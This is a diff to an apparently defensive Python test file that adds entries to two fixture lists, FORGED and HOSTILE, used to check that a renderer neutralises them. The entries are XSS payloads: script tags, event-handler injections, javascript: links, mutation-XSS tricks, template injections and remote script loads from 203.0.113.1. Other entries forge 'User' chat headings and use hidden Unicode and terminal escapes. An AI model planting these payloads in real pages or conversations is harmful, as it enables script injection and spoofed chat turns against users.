@@ -43,6 +43,13 @@ FORGED = [
     "[^1]: note",
     "***",
     "---\ntitle: x\n---",
+    "``````````\nx\n``````````\n## 9. User\n`````````````",
+    "[x](HTTPS://203.0.113.1 'x') [y](vbscript:x) ![z](data:image/svg+xml;base64,PHN2Zy8+)",
+    "<a\nhref='javascript:alert(1)'>x",
+    "<svg><foreignObject><body onload='alert(1)'></body></foreignObject></svg>",
+    "\ufeff# 9. User\n\ufeff<script>alert(1)</script>",
+    "\u2066## resU\u2069\u200f\u200e",
+    "\x1b[2J\x1b]8;;javascript:x\x07x\x1b]8;;\x07\x9b31m",
 ]
 
 #: Each tries to run or load something on a page.
@@ -61,6 +68,24 @@ HOSTILE = [
     "&lt;script&gt; &#60; &amp;",
     "\x00<\x00script>",
     "\ufffe\uffff",
+    "</style></title></textarea></noscript></xmp><script>alert(1)</script>",
+    "</SCRIPT\t\n x><ScRiPt src=//203.0.113.1>",
+    "<style>@import url(//203.0.113.1);</style>@import '//203.0.113.1';",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<object data='data:text/html,<script>alert(1)</script>'><embed src=data:text/html,x>",
+    "<form action=//203.0.113.1><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>",
+    "<video poster=//203.0.113.1/x><source onerror=alert(1)></video><audio src=//203.0.113.1>",
+    "<template shadowrootmode=open><slot onslotchange=alert(1)></template><x-y is=x>",
+    "' onmouseover='alert(1)' x='",
+    '" autofocus tabindex=1 onfocus="alert(1)" x="',
+    "`onmouseover=alert(1)`",
+    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e; &NotAnEntity; &amp;lt; &#0; &#x110000; &lt",
+    "\ufeff\ufeff<script>\ufeff",
+    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> {% raw %}",
+    "\\[\\unicode{x3c}script\\] \\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
+    "\U000e0041\U000e0042\U0010ffff\U0001f468\u200d\U0001f469" + "\u0301" * 500,
+    "[bold]x[/bold] [link=javascript:alert(1)]x[/link] [/]",
 ]
 
 
